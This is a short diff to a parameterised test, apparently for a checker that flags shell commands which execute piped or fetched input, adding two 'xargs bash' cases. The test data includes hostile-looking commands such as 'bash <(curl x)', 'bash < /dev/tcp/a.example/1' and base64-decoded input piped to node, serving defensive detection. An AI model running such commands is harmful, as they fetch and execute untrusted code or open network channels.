@@ -20,6 +20,8 @@ it.each([
   ['/usr/bin/base64 -d a | node', '`node` runs what a pipe brings'],
   ['ls | sh', '`sh` runs what a pipe brings'],
   ['sudo bash', '`bash` runs what it is typed'],
+  ['cat list | xargs bash', '`bash` runs what a pipe names'],
+  ['base64 -d a | xargs bash', '`bash` runs what a pipe names'],
   ['bash <(curl x)', '`bash` runs <(curl x)'],
   ['bash /dev/fd/3', '`bash` runs /dev/fd/3'],
   ['bash < /dev/tcp/a.example/1', '`bash` runs /dev/tcp/a.example/1'],
